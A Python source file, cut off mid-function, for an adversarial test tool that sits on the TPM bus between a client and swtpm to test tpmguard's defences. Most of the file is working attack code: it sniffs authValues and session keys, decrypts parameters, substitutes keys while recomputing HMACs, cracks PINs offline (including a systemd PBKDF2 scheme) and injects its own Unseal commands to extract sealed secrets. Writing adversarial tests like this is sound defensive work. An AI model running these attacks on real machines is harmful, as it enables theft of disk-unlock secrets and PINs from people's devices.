# SPDX-License-Identifier: LGPL-2.1-or-later
"""
tpm-interposer: an active TPM bus interposer for tpmguard's adversarial tests.

Threat model it plays: the attacker of design §1 who sits on the TPM bus. It
sits between a TSS using the swtpm TCTI (swtpm:path=SOCK, which also uses
SOCK.ctrl) and a real swtpm (DIR/tpm.sock, DIR/tpm.sock.ctrl), sees every
byte, and in its active modes rewrites them. Everything it learns goes to a
machine-readable findings file, so that tests assert on what leaked rather
than on log text.

What it can learn without any active step (every mode does this passively):
  - cleartext authValues from password sessions (TPM_RS_PW) and PolicyPassword;
  - the session key of an unsalted session that is unbound, or bound to an
    entity with an empty or already-learned authValue, and so every parameter
    encrypted in such a session;
  - HMACs that allow an offline PIN search (pin-crack mode runs it).

Substitute mode (the active attack that tpmguard's verification must catch):
  - CreatePrimary in the null/owner/endorsement hierarchies and ReadPublic of
    persistent handles (and of any key substituted earlier) that return an ECC
    P-256 decrypt key get the proxy's own point instead; outPublic, name and
    qualifiedName are fixed, and sizes and response HMACs are recomputed where
    the session key is known. creationTicket is left as the TPM made it (it is
    an HMAC under a TPM-internal proof: a later CertifyCreation would fail).
  - An ECC salt is not a value the caller chooses but the KDFe output of an
    ECDH: it cannot be "re-encrypted" unchanged to another key. The proxy
    therefore decrypts the client's salt with its own key, makes a new salt
    for the real key with a fresh ephemeral ECDH, and from then on stands in
    the middle of two sessions that share the TPM's nonces but have two
    session keys. Every command and response of such a session is
    translated: parameter encryption (AES-CFB or XOR) is decrypted with one
    key (the plaintext is recorded) and encrypted with the other, and the
    command HMAC (checked against the client's key first) and the response
    HMAC are recomputed. cpHash is computed with the names each side knows
    (the fake name for the client, the real name for the TPM).
  - --substitute-first N: only the first N CreatePrimary answers are
    substituted (and ReadPublic and sessions of the handles they returned);
    later keys pass genuine, so that a check at the end that certifies a
    fresh key succeeds and only a comparison with the first one can tell.
  - Handled: HMAC and policy sessions, authValues that are empty or learned
    (password sessions, decrypted inSensitive of Create, cracked PINs),
    extra decrypt/encrypt session nonces in the first session's HMAC, bound
    sessions (bind auth assumed empty unless learned).
  - Not handled: RSA salt keys (not substituted), the EK signing key and other
    signing keys (a substituted signing key would need re-signed attestations),
    audit sessions, sessions salted to a key the proxy did not substitute
    (they stay opaque), HMACs under an unknown PIN that pin-crack does not find
    (the command is forwarded unchanged, and the TPM rejects it), and
    ObjectChangeAuth/HierarchyChangeAuth response HMACs under the new value.

Redirect modes (issue 13: the keys a password-authorized Certify can be
pointed at). On a NULL-hierarchy CreatePrimary of a P-256 decrypt key, the
proxy puts a key of its own choosing into the real TPM, flushes the real
NULL primary, and answers with the handle, public area and name of its key,
so that every later command that names the handle (Certify, StartAuthSession,
ContextSave) goes to that key and the genuine EK signing key certifies it:
  - loaded-key: its own P-256 key, private part included, loaded with
    LoadExternal in the NULL hierarchy. It must be loadable, so fixedTPM,
    fixedParent and restricted are clear (and so the symmetric algorithm).
    Its certified qualified name is that of a NULL-hierarchy object. The
    proxy holds the private key: it decrypts the client's salt (the TPM,
    salted to the same key, derives the same session key) and reads every
    parameter of every session salted to it.
  - zgen-key: a primary of the NULL hierarchy, fixedTPM, but decrypt without
    restricted (so not the client's template). Its private part stays in the
    TPM, but the TPM computes ECDH with it for anyone (ECDH_ZGen, empty
    password): the proxy has it compute the client's salt and derives the
    session key. Its certified qualified name is that of a NULL primary.
  - owner-key: a primary of the owner hierarchy made from the client's own
    template (exactly the NULL key template, fixedTPM; its private part
    stays in the TPM, so the proxy learns no salt). What it would buy: the
    owner seed survives a TPM reset, so the same key answers before and after
    one, which would hide a reset from a boot anchor.

inject-unseal (issue 14): the proxy watches a normal unlock (the client's own
sessions stay untouched), remembers the sealed object's Load (parent, and the
owner CreatePrimary template when the parent is transient), the PolicyPCR
selection and whether the client ran PolicyAuthValue/PolicyPassword. Once
the client has flushed the sealed object (its unlock is over; the same boot,
so the PCRs still hold the values the policy wants), it sends commands of
its own on the bus, before the client's next command: the
parent again (CreatePrimary, empty owner password) if it was transient, Load,
StartAuthSession (policy, unsalted, unbound: no key it would have to trust),
PolicyPCR, Unseal, and FlushContext for what it made. A policy that needs no
secret (a no-PIN token) unseals for it: the secret is in its findings
(plaintexts[].unsealed, in_clear). A policy with PolicyAuthValue needs the
object's authValue (the PIN's): the proxy holds none, skips it, and the TPM
refuses Unseal (a policy digest mismatch, which costs no DA try).

Other modes: record, pin-crack, tamper, reset, drop, replay, mutate, forge-rc
(a well-formed error response to the Nth command CC); see --help.
Modes combine: --mode substitute,pin-crack.
"""

import argparse
import base64
import hashlib
import json
import os
import select
import signal
import socket
import stat
import struct
import sys
import threading
import time

from cryptography.hazmat.primitives.asymmetric import ec

import mutate as mt
import tpmwire as tw

MODES = ("record", "substitute", "loaded-key", "zgen-key", "owner-key", "pin-crack", "tamper", "reset", "drop",
         "replay", "mutate", "inject-unseal", "hide-ek-certs", "forge-rc", "extend-before", "redirect-salt",
         "tamper-hmac", "swap-context")
EK_CERT_NV_FIRST, EK_CERT_NV_LAST = 0x01C00000, 0x01C0FFFF
SWTPM_CMD_INIT = 2
SUBSTITUTE_HIERARCHIES = (tw.TPM_RH_NULL, tw.TPM_RH_OWNER, tw.TPM_RH_ENDORSEMENT)


class ProxyError(Exception):
    pass


def hx(b):
    return b.hex() if b is not None else None


def hh(h):
    return "0x%08x" % h if h is not None else None


def session_attr_names(a):
    names = []
    for bit, n in ((0x01, "continueSession"), (0x02, "auditExclusive"), (0x04, "auditReset"),
                   (0x20, "decrypt"), (0x40, "encrypt"), (0x80, "audit")):
        if a & bit:
            names.append(n)
    return names


# --- socket helpers ------------------------------------------------------------------

def recv_exact(sock, n, deadline, stop=None):
    buf = b""
    while len(buf) < n:
        left = deadline - time.monotonic()
        if left <= 0:
            raise TimeoutError("timed out reading %d bytes" % n)
        sock.settimeout(min(left, 0.5))
        try:
            chunk = sock.recv(n - len(buf))
        except socket.timeout:
            if stop is not None and stop.is_set():
                raise ConnectionAbortedError("stopping")
            continue
        if not chunk:
            if not buf:
                return None
            raise ConnectionError("peer closed mid-message")
        buf += chunk
    return buf


def read_tpm_message(sock, timeout, stop=None, idle_forever=False):
    """One command or response: the size field is checked before the body is read."""
    if idle_forever:
        while True:
            try:
                hdr = recv_exact(sock, 10, time.monotonic() + 3600, stop)
                break
            except TimeoutError:
                continue
    else:
        hdr = recv_exact(sock, 10, time.monotonic() + timeout, stop)
    if hdr is None:
        return None
    _, size, _ = tw.read_header(hdr)
    if size < 10 or size > tw.MAX_COMMAND_SIZE:
        raise ProxyError("message size field %d out of range" % size)
    body = recv_exact(sock, size - 10, time.monotonic() + timeout, stop) if size > 10 else b""
    if body is None:
        raise ConnectionError("peer closed after header")
    return hdr + body


# --- state ---------------------------------------------------------------------------

class FakeKey:
    def __init__(self, real_public):
        self.real = real_public
        self.private = ec.generate_private_key(ec.SECP256R1())
        n = self.private.public_key().public_numbers()
        self.fake = real_public.with_point(n.x.to_bytes(32, "big"), n.y.to_bytes(32, "big"))
        self.real_name = real_public.name()
        self.fake_name = self.fake.name()
        self.loaded = False


class LoadedKey:
    """A key of the proxy's own, loaded into the TPM (loaded-key mode): the TPM
    and the client salt to the same point, whose private key the proxy holds."""

    def __init__(self, public, private):
        self.real = self.fake = public
        self.private = private
        self.real_name = self.fake_name = public.name()
        self.loaded = True


class Session:
    def __init__(self, handle, type_, auth_hash, sym):
        self.handle = handle
        self.type = type_
        self.auth_hash = auth_hash
        self.sym = sym
        self.client_key = None   # None: unknown (opaque session)
        self.tpm_key = None
        self.nonce_tpm = b""
        self.bind_name = None
        self.policy_auth_value = False
        self.policy_password = False
        self.salt_key = None     # FakeKey when salted to a substituted key
        self.entry = None        # its session_keys entry in the findings

    @property
    def known(self):
        return self.client_key is not None

    @property
    def mitm(self):
        return self.known and self.client_key != self.tpm_key


class Findings:
    def __init__(self, path, modes, args):
        self.path = path
        self.lock = threading.Lock()
        self.data = {
            "tool": "tpm-interposer",
            "modes": list(modes),
            "upstream": args.upstream,
            "listen": args.listen,
            "started": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            "connections": 0,
            "commands": 0,
            "attacks": [],
            "session_keys": [],
            "opaque_sessions": [],
            "plaintexts": [],
            "auth_values": [],
            "pins": [],
            "pin_crack": [],
            "hmac_untranslated": [],
            "errors": [],
        }

    def add(self, key, item):
        with self.lock:
            self.data[key].append(item)

    def bump(self, key):
        with self.lock:
            self.data[key] += 1

    def summary(self):
        d = self.data
        return {"session_keys": len(d["session_keys"]), "plaintexts": len(d["plaintexts"]),
                "auth_values": len(d["auth_values"]), "pins": len(d["pins"]),
                "attacks": len(d["attacks"])}

    def write(self):
        if not self.path:
            return
        with self.lock:
            self.data["learned"] = self.summary()
            text = json.dumps(self.data, indent=1, sort_keys=True)
        tmp = "%s.tmp.%d.%d" % (self.path, os.getpid(), threading.get_ident())
        with open(tmp, "w") as f:
            f.write(text + "\n")
        os.replace(tmp, self.path)


def parse_cc_count(text, what):
    """CC[:N]"""
    parts = text.split(":")
    if len(parts) not in (1, 2):
        raise argparse.ArgumentTypeError("%s wants CC[:N], got %r" % (what, text))
    cc = tw.parse_cc(parts[0])
    n = int(parts[1], 0) if len(parts) == 2 else None
    if n is not None and n < 1:
        raise argparse.ArgumentTypeError("%s: N counts from 1" % what)
    return (cc, n)


def parse_forge_rc(text):
    """CC:N:RC"""
    parts = text.split(":")
    if len(parts) != 3:
        raise argparse.ArgumentTypeError("--forge-rc wants CC:N:RC, got %r" % text)
    cc, n = parse_cc_count(":".join(parts[:2]), "--forge-rc")
    rc = int(parts[2], 0)
    if not 0 < rc < (1 << 32):
        raise argparse.ArgumentTypeError("--forge-rc: RC must be a non-zero 32-bit response code")
    return (cc, n, rc)


def parse_tamper(text):
    parts = text.split(":")
    if len(parts) not in (3, 4):
        raise argparse.ArgumentTypeError("--tamper wants CC:OFFSET:XORBYTE[:N], got %r" % text)
    cc = tw.parse_cc(parts[0])
    off = int(parts[1], 0)
    xor = int(parts[2], 0)
    nth = int(parts[3], 0) if len(parts) == 4 else None
    if off < 0 or not 1 <= xor <= 255 or (nth is not None and nth < 1):
        raise argparse.ArgumentTypeError("--tamper: offset >= 0, 1 <= XORBYTE <= 255, N >= 1")
    return (cc, off, xor, nth)


def pin_candidates(wordlist):
    for i in range(10000):
        yield "%04d" % i
    if wordlist:
        with open(wordlist, encoding="utf-8", errors="replace") as f:
            for line in f:
                w = line.rstrip("\r\n")
                if w:
                    yield w


def pin_transforms(pin_salt):
    """(name, function pin-bytes -> authValue) in the order they are tried."""
    ts = [("raw", lambda p: p),
          ("sha256", lambda p: hashlib.sha256(p).digest())]
    if pin_salt is not None:
        def systemd(p):
            # systemd >= 253: PBKDF2-HMAC-SHA256(pin, salt, 10000) -> base64 -> SHA-256.
            derived = hashlib.pbkdf2_hmac("sha256", p, pin_salt, 10000, 32)
            return hashlib.sha256(base64.b64encode(derived)).digest()

        def pbkdf2(p):
            return hashlib.pbkdf2_hmac("sha256", p, pin_salt, 10000, 32)
        ts += [("systemd-pbkdf2-sha256", systemd), ("pbkdf2-sha256", pbkdf2)]
    return ts


class HmacCapture:
    """Everything needed to test an authValue guess offline."""

    def __init__(self, command, session, auth_hash, key, p_hash, nonce_newer, nonce_older, extra, attrs, mac):
        self.command = command
        self.session = session
        self.auth_hash = auth_hash
        self.key = key
        self.p_hash = p_hash
        self.nonce_newer = nonce_newer
        self.nonce_older = nonce_older
        self.extra = extra
        self.attrs = attrs
        self.mac = mac

    def matches(self, auth):
        return tw.session_hmac(self.auth_hash, self.key + tw.strip_auth(auth), self.p_hash, self.nonce_newer,
                               self.nonce_older, self.extra, self.attrs) == self.mac


def crack(capture, transforms, wordlist):
    tried = 0
    for tname, fn in transforms:
        for pin in pin_candidates(wordlist):
            tried += 1
            auth = fn(pin.encode())
            if capture.matches(auth):
                return pin, tname, auth, tried
    return None, None, None, tried


# --- the proxy ---------------------------------------------------------------------------

class CommandContext:
    """What pre-processing decided for one command, for post-processing."""

    def __init__(self, cmd):
        self.cmd = cmd
        self.start = None          # pending StartAuthSession info
        self.session_auth = {}     # index -> authValue used in that session's HMAC/encryption
        self.params_changed = False


class Proxy:
    def __init__(self, args):
        self.args = args
        self.modes = set(args.mode)
        self.lock = threading.RLock()
        self.stop = threading.Event()
        self.findings = Findings(args.findings, args.mode, args)
        self.record_lock = threading.Lock()
        self.record_file = open(args.record, "a") if args.record else None
        self.sessions = {}
        self.fakes = {}            # (x, y) of the real key -> FakeKey
        self.by_real_name = {}     # real name -> FakeKey
        # --substitute-first N: only the first N CreatePrimary answers are substituted; sessions
        # are translated only when salted to a handle one of them returned (the genuine key that
        # a later CreatePrimary returns is the client's to salt to: those sessions stay opaque).
        self.substituted_primaries = 0
        self.substituted_handles = set()
        self.known_auths = []      # learned authValues (bytes)
        self.pcr_extends = []      # raw PCR_Extend commands forwarded since the last reset
        self.cc_counts = {}
        self.ok_counts = {}  # successful responses per command code (--reset-after)
        self.replay_store = {}
        self.seq = 0
        self.crack_threads = []
        self.crack_attempted = set()
        self.mutate_spec = None    # {"seed", "at", "kind"}: the mutation of this generation
        self.mutate_spec_raw = None
        self.mutate_responses = 0  # responses seen in this generation
        self.mutate_command_count = 0
        self.mutate_generation = 0
        if "mutate" in self.modes and not args.mutate_spec:
            self.mutate_spec = {"seed": args.mutate_seed, "at": args.mutate_at, "kind": args.mutate_kind}
            self.findings.data["mutate"] = {"spec": self.mutate_spec, "responses": 0}
        self.zgen_keys = {}        # (x, y) -> Public of a NULL primary the TPM runs ECDH_ZGen with (zgen-key)
        # inject-unseal: what a normal unlock showed on the bus
        self.inject_primaries = {}  # transient handle -> TPM2B_PUBLIC (raw) of an owner CreatePrimary
        self.context_swapped = False
        self.null_context_loads = 0
        self.inject_target = None   # {conn, parent, parent_public, in_private, in_public}
        self.inject_pcrs = None     # TPML_PCR_SELECTION (raw) of the client's PolicyPCR
        self.inject_needs_auth = False
        self.inject_done = False

    # -- logging/recording --

    def log(self, fmt, *a):
        if self.args.verbose:
            sys.stderr.write("tpm-interposer: " + (fmt % a if a else fmt) + "\n")
            sys.stderr.flush()

    def record(self, entry):
        if not self.record_file:
            return
        # Wall-clock time of the entry, so that a reader can split a
        # recording into phases (tests/e2e/run boot-timing-dracut).
        entry.setdefault("time", round(time.time(), 6))
        with self.record_lock:
            self.record_file.write(json.dumps(entry, sort_keys=True) + "\n")
            self.record_file.flush()

    def attack(self, **kw):
        kw["time"] = time.time()
        self.findings.add("attacks", kw)
        self.log("attack: %s", kw.get("attack"))

    def learn_auth(self, auth, kind, command, session=None):
        if not auth:
            return
        if auth not in self.known_auths:
            self.known_auths.append(auth)
        self.findings.add("auth_values", {"kind": kind, "command": command, "session": session,
                                          "auth_value": hx(auth)})

    # -- upstream --

    def transact(self, upstream, raw):
        upstream.sendall(raw)
        resp = read_tpm_message(upstream, self.args.timeout)
        if resp is None:
            raise ConnectionError("upstream closed")
        return resp

    def read_public(self, upstream, handle):
        """Inject ReadPublic: (Public, name) of a loaded object, or (None, None)."""
        resp = self.transact(upstream, tw.build_command(0x173, [handle]))
        r = tw.Response(resp, 0x173, 0)
        if r.rc != 0:
            return None, None
        rd = tw.Reader(r.params)
        pub = tw.read_tpm2b_public(rd)
        name = rd.tpm2b(68)
        return pub, name

    def real_name_of(self, upstream, handle):
        if tw.handle_is_name_itself(handle):
            return tw.u32(handle)
        top = handle >> 24
        if top in (0x80, 0x81):
            _, name = self.read_public(upstream, handle)
            return name
        if top == 0x01:
            resp = self.transact(upstream, tw.build_command(0x169, [handle]))
            r = tw.Response(resp, 0x169, 0)
            if r.rc != 0:
                return None
            rd = tw.Reader(r.params)
            rd.tpm2b()
            return rd.tpm2b(68)
        return None

    def names(self, upstream, handles):
        """(client names, real names) or (None, None) when some name is unknown."""
        client, real = [], []
        for h in handles:
            n = self.real_name_of(upstream, h)
            if n is None:
                return None, None
            real.append(n)
            fk = self.by_real_name.get(n)
            client.append(fk.fake_name if fk else n)
        return client, real

    # -- substitution --

    def fake_for(self, real_public, create=True):
        key = (real_public.x, real_public.y)
        fk = self.fakes.get(key)
        if fk is None and create:
            fk = FakeKey(real_public)
            self.fakes[key] = fk
            self.by_real_name[fk.real_name] = fk
        return fk

    def substitute_response_params(self, cmd, params):
        """New response parameters for CreatePrimary/ReadPublic, or None."""
        if "substitute" not in self.modes:
            return None
        rd = tw.Reader(params)
        pub = tw.read_tpm2b_public(rd)
        if not pub.is_salt_capable_p256():
            return None
        if cmd.cc == 0x131:
            hierarchy = cmd.handles[0]
            if hierarchy not in SUBSTITUTE_HIERARCHIES:
                return None
            limit = self.args.substitute_first
            if limit is not None and self.substituted_primaries >= limit:
                return None
            creation_data = rd.tpm2b()
            creation_hash = rd.tpm2b(64)
            ticket_tag = rd.u16()
            ticket_hierarchy = rd.u32()
            ticket_digest = rd.tpm2b(64)
            real_name = rd.tpm2b(68)
            rd.done()
            fk = self.fake_for(pub)
            if real_name != fk.real_name:
                raise ProxyError("TPM returned a name that does not match its public area")
            out = (tw.marshal_tpm2b_public(fk.fake) + tw.tpm2b(creation_data) + tw.tpm2b(creation_hash)
                   + tw.u16(ticket_tag) + tw.u32(ticket_hierarchy) + tw.tpm2b(ticket_digest)
                   + tw.tpm2b(fk.fake_name))
            self.attack(attack="substitute-public", command="CreatePrimary",
                        hierarchy=tw.HIERARCHY_NAMES.get(hierarchy, hh(hierarchy)),
                        real_name=hx(fk.real_name), fake_name=hx(fk.fake_name))
            self.substituted_primaries += 1
            return out
        # ReadPublic
        handle = cmd.handles[0]
        if self.args.substitute_first is not None and handle not in self.substituted_handles:
            return None
        real_name = rd.tpm2b(68)
        rd.tpm2b(68)  # qualifiedName
        rd.done()
        fk = self.fake_for(pub, create=(handle >> 24) == 0x81)
        if fk is None:
            return None
        # The qualified name is recomputed as for a primary in the owner
        # hierarchy (systemd's SRK at 0x81000001); the parent chain of other
        # persistent keys is not known to the proxy.
        qn = tw.u16(fk.fake.name_alg) + tw.H(fk.fake.name_alg, tw.u32(tw.TPM_RH_OWNER), fk.fake_name)
        self.attack(attack="substitute-public", command="ReadPublic", handle=hh(handle),
                    real_name=hx(real_name), fake_name=hx(fk.fake_name))
        return tw.marshal_tpm2b_public(fk.fake) + tw.tpm2b(fk.fake_name) + tw.tpm2b(qn)

    # -- redirect modes (loaded-key, owner-key) --

    def redirect_null_primary(self, upstream, cmd, resp):
        """Answers a NULL-hierarchy CreatePrimary with a key the proxy put into the TPM. True if it did."""
        if cmd.cc != 0x131 or cmd.handles[0] != tw.TPM_RH_NULL or resp.rc != 0 or not resp.parsed:
            return False
        if not ({"loaded-key", "zgen-key", "owner-key"} & self.modes):
            return False
        rd = tw.Reader(resp.params)
        real = tw.read_tpm2b_public(rd)
        if not real.is_salt_capable_p256():
            return False
        creation = rd.take(rd.remaining())  # creationData ... name, kept for loaded-key below
        real_handle = resp.handles[0]
        if "loaded-key" in self.modes:
            priv = ec.generate_private_key(ec.SECP256R1())
            n = priv.public_key().public_numbers()
            params = (tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ECC_NIST_P256)
                      + tw.u16(tw.TPM_ALG_NULL))
            # userWithAuth | noDA | decrypt: neither fixedTPM nor fixedParent nor restricted,
            # or LoadExternal refuses the private part.
            evil = tw.Public(tw.TPM_ALG_ECC, real.name_alg, 0x00000040 | 0x00000400 | tw.TPMA_OBJECT_DECRYPT,
                             b"", params, n.x.to_bytes(32, "big"), n.y.to_bytes(32, "big"))
            sensitive = (tw.u16(tw.TPM_ALG_ECC) + tw.tpm2b(b"") + tw.tpm2b(b"")
                         + tw.tpm2b(priv.private_numbers().private_value.to_bytes(32, "big")))
            out = self.transact(upstream, tw.build_command(
                0x167, params=tw.tpm2b(sensitive) + tw.marshal_tpm2b_public(evil) + tw.u32(tw.TPM_RH_NULL)))
            r = tw.Response(out, 0x167, 0)
            if r.rc != 0:
                self.findings.add("errors", {"command": "LoadExternal", "error": "rc %s" % hh(r.rc)})
                return False
            new_handle = r.handles[0]
            key = LoadedKey(evil, priv)
            self.fakes[(evil.x, evil.y)] = key
            # The creation data stays the real key's; only the name at its end is replaced.
            crd = tw.Reader(creation)
            head = tw.tpm2b(crd.tpm2b()) + tw.tpm2b(crd.tpm2b(64))
            head += tw.u16(crd.u16()) + tw.u32(crd.u32()) + tw.tpm2b(crd.tpm2b(64))
            crd.tpm2b(68)
            crd.done()
            resp.params = tw.marshal_tpm2b_public(evil) + head + tw.tpm2b(key.fake_name)
            attack, new_name = "substitute-loaded-key", key.fake_name
        else:
            if "zgen-key" in self.modes:
                # CreatePrimary(null): fixedTPM, fixedParent, sensitiveDataOrigin, userWithAuth, noDA,
                # decrypt, but not restricted; no symmetric algorithm (required without restricted).
                params = (tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ALG_NULL) + tw.u16(tw.TPM_ECC_NIST_P256)
                          + tw.u16(tw.TPM_ALG_NULL))
                tmpl = tw.Public(tw.TPM_ALG_ECC, real.name_alg,
                                 0x2 | 0x10 | 0x20 | 0x40 | 0x400 | tw.TPMA_OBJECT_DECRYPT, b"", params, b"", b"")
                hierarchy, attack = tw.TPM_RH_NULL, "substitute-zgen-key"
            else:
                # CreatePrimary(owner) with the client's template (unique cleared), owner auth empty.
                tmpl = real.with_point(b"", b"")
                hierarchy, attack = tw.TPM_RH_OWNER, "substitute-owner-key"
            pw = tw.u32(tw.TPM_RS_PW) + tw.tpm2b(b"") + bytes([0]) + tw.tpm2b(b"")
            body = (tw.u32(hierarchy) + tw.u32(len(pw)) + pw
                    + tw.tpm2b(tw.u16(0) + tw.u16(0)) + tw.marshal_tpm2b_public(tmpl) + tw.tpm2b(b"") + tw.u32(0))
            raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x131) + body
            out = self.transact(upstream, raw)
            r = tw.Response(out, 0x131, 1)
            if r.rc != 0:
                self.findings.add("errors", {"command": "CreatePrimary(owner)", "error": "rc %s" % hh(r.rc)})
                return False
            new_handle = r.handles[0]
            resp.params = r.params
            ord_ = tw.Reader(r.params)
            made = tw.read_tpm2b_public(ord_)
            for _ in range(2):
                ord_.tpm2b()
            ord_.u16(), ord_.u32(), ord_.tpm2b()
            new_name = ord_.tpm2b(68)
            if attack == "substitute-zgen-key":
                self.zgen_keys[(made.x, made.y)] = made
        self.transact(upstream, tw.build_command(0x165, params=tw.u32(real_handle)))
        resp.handles = [new_handle]
        self.attack(attack=attack, command="CreatePrimary", real_handle=hh(real_handle), new_handle=hh(new_handle),
                    real_name=hx(real.name()), fake_name=hx(new_name))
        return True

    # -- sessions: command side --

    def preprocess(self, upstream, cmd, ctx):
        if cmd.cc == 0x176:
            self.pre_start_session(upstream, cmd, ctx)
        if not any(a.attrs & tw.TPMA_SESSION_DECRYPT for a in cmd.auths):
            self.note_clear(cmd, "command", cmd.params)
        if not cmd.auths:
            return
        # Cleartext authValues.
        for i, a in enumerate(cmd.auths):
            if a.handle == tw.TPM_RS_PW and a.hmac:
                self.learn_auth(a.hmac, "password-session", cmd.name)
            s = self.sessions.get(a.handle)
            if s is not None and s.type == tw.TPM_SE_POLICY and s.policy_password and a.hmac:
                self.learn_auth(a.hmac, "policy-password", cmd.name, hh(a.handle))
        known = [(i, a, self.sessions.get(a.handle)) for i, a in enumerate(cmd.auths)]
        known = [(i, a, s) for i, a, s in known if s is not None and s.known]
        if not known:
            return
        dec_i = next((i for i, a in enumerate(cmd.auths) if a.attrs & tw.TPMA_SESSION_DECRYPT), None)
        enc_i = next((i for i, a in enumerate(cmd.auths) if a.attrs & tw.TPMA_SESSION_ENCRYPT), None)
        # Part 1 19.6.5: the first session's HMAC also covers the nonceTPM of a
        # decrypt session and of a (different) encrypt session that are not it.
        extra = b""
        for j in sorted({j for j in (dec_i, enc_i) if j is not None and j != 0}, key=[dec_i, enc_i].index):
            s = self.sessions.get(cmd.auths[j].handle)
            extra += s.nonce_tpm if s else b""
        need_names = any(a.hmac for _, a, _ in known)
        client_names = real_names = None
        if need_names and cmd.handles:
            client_names, real_names = self.names(upstream, cmd.handles)
        elif need_names:
            client_names, real_names = [], []
        client_cp = {}
        # 1. Find the authValue that makes each client HMAC verify.
        for i, a, s in known:
            entity = cmd.handles[i] if i < cmd.n_auth_handles else None
            if entity is None:
                cands = [b""]
            elif s.type == tw.TPM_SE_POLICY and not (s.policy_auth_value or s.policy_password):
                cands = [b""]
            elif s.type == tw.TPM_SE_HMAC and s.bind_name is not None and real_names is not None \
                    and real_names[i] == s.bind_name:
                cands = [b""]
            else:
                cands = [b""] + list(self.known_auths)
            if s.type == tw.TPM_SE_POLICY and s.policy_password:
                # The HMAC field carries the authValue; the session key still encrypts.
                ctx.session_auth[i] = b""
                continue
            if not a.hmac:
                ctx.session_auth[i] = b""
                continue
            if client_names is None:
                if s.mitm:
                    self.findings.add("hmac_untranslated", {"command": cmd.name, "session": hh(a.handle),
                                                            "reason": "the name of a handle is unknown"})
                continue
            h = s.auth_hash
            cp = client_cp.get(h)
            if cp is None:
                cp = client_cp[h] = tw.cp_hash(h, cmd.cc, client_names, cmd.params)
            ex = extra if i == 0 else b""
            cap = HmacCapture(cmd.name, hh(a.handle), h, s.client_key, cp, a.nonce, s.nonce_tpm, ex, a.attrs, a.hmac)
            found = next((c for c in cands if cap.matches(c)), None)
            if found is None and entity is not None:
                found = self.pin_crack(cap)
            if found is None:
                if s.mitm or client_names != real_names:
                    # The TPM will reject this HMAC: the client notices the attack.
                    self.findings.add("hmac_untranslated", {
                        "command": cmd.name, "session": hh(a.handle),
                        "reason": "no known authValue verifies the client's HMAC"})
                continue
            ctx.session_auth[i] = found
            if s.entry is not None and not s.entry["verified"]:
                with self.findings.lock:
                    s.entry["verified"] = True
        # 2. Parameter decryption (and re-encryption for a man-in-the-middle session).
        new_params = cmd.params
        if dec_i is not None:
            s = self.sessions.get(cmd.auths[dec_i].handle)
            if s is not None and s.known and dec_i in ctx.session_auth:
                a = cmd.auths[dec_i]
                auth = tw.strip_auth(ctx.session_auth[dec_i])
                try:
                    ct, rest = tw.split_first_tpm2b(cmd.params)
                    pt = tw.param_crypt(s.sym, s.auth_hash, s.client_key + auth, a.nonce, s.nonce_tpm, ct, False)
                    self.note_plaintext(cmd, "command", a.handle, pt)
                    if s.mitm:
                        ct2 = tw.param_crypt(s.sym, s.auth_hash, s.tpm_key + auth, a.nonce, s.nonce_tpm, pt, True)
                        new_params = tw.tpm2b(ct2) + rest
                except tw.WireError as e:
                    self.findings.add("errors", {"command": cmd.name, "error": "decrypt: %s" % e})
        # 3. Command HMACs for the TPM: the TPM's session key, real names, TPM-side parameters.
        names_differ = client_names is not None and client_names != real_names
        params_changed = new_params != cmd.params
        for i, a, s in known:
            if i not in ctx.session_auth or not a.hmac:
                continue
            if s.type == tw.TPM_SE_POLICY and s.policy_password:
                continue
            if not (s.mitm or names_differ or params_changed):
                continue
            cp = tw.cp_hash(s.auth_hash, cmd.cc, real_names, new_params)
            ex = extra if i == 0 else b""
            a.hmac = tw.session_hmac(s.auth_hash, s.tpm_key + tw.strip_auth(ctx.session_auth[i]), cp, a.nonce,
                                     s.nonce_tpm, ex, a.attrs)
            self.attack(attack="hmac-recompute", command=cmd.name, session=hh(a.handle),
                        reason="man-in-the-middle session" if s.mitm else "substituted name in cpHash")
        cmd.params = new_params

    # Commands and responses whose first parameter is a secret when sent in clear.
    SECRET_COMMAND_PARAMS = (0x153, 0x131, 0x191, 0x129, 0x150, 0x13B)
    SECRET_RESPONSE_PARAMS = (0x15E, 0x17B)

    def note_clear(self, cmd, direction, params):
        """A secret-bearing first parameter that crossed the bus without encryption."""
        codes = self.SECRET_COMMAND_PARAMS if direction == "command" else self.SECRET_RESPONSE_PARAMS
        if cmd.cc not in codes:
            return
        try:
            first, _ = tw.split_first_tpm2b(params)
        except tw.WireError:
            return
        if cmd.cc in (0x153, 0x131, 0x191) and first in (b"\0\0\0\0",):
            return  # empty userAuth and empty data: nothing secret
        if first:
            self.note_plaintext(cmd, direction, None, first, in_clear=True)

    def note_plaintext(self, cmd, direction, session, pt, in_clear=False):
        item = {"command": cmd.name, "direction": direction, "session": hh(session),
                "data": hx(pt), "in_clear": in_clear}
        try:
            if direction == "command" and cmd.cc in (0x153, 0x131, 0x191):
                # TPM2B_SENSITIVE_CREATE contents: userAuth, data.
                rd = tw.Reader(pt)
                user_auth = rd.tpm2b(128)
                data = rd.tpm2b()
                rd.done()
                item["user_auth"] = hx(user_auth)
                item["sensitive_data"] = hx(data)
                self.learn_auth(user_auth, "inSensitive.userAuth", cmd.name, hh(session))
            elif direction == "command" and cmd.cc in (0x129, 0x150, 0x13B):
                self.learn_auth(pt, "newAuth", cmd.name, hh(session))
            elif direction == "response" and cmd.cc == 0x15E:
                item["unsealed"] = hx(pt)
        except tw.WireError:
            pass
        self.findings.add("plaintexts", item)
        self.log("plaintext %s %s: %d bytes", cmd.name, direction, len(pt))

    def pin_crack(self, cap):
        """Offline search for the authValue behind a captured HMAC. The fast
        transforms run inline (so that a man-in-the-middle session can go on);
        the PBKDF2 ones run in a background thread and only report."""
        if "pin-crack" not in self.modes:
            return None
        # One search per session and command: a PIN that is not in the
        # dictionary is not found by searching again.
        attempt = (cap.session, cap.command)
        if attempt in self.crack_attempted:
            return None
        self.crack_attempted.add(attempt)
        transforms = pin_transforms(self.args.pin_salt)
        fast, slow = transforms[:2], transforms[2:]
        pin, tname, auth, tried = crack(cap, fast, self.args.wordlist)
        if pin is not None:
            self.report_pin(cap, pin, tname, auth, tried)
            return auth
        if slow:
            def work():
                p, t, au, n = crack(cap, slow, self.args.wordlist)
                if p is not None:
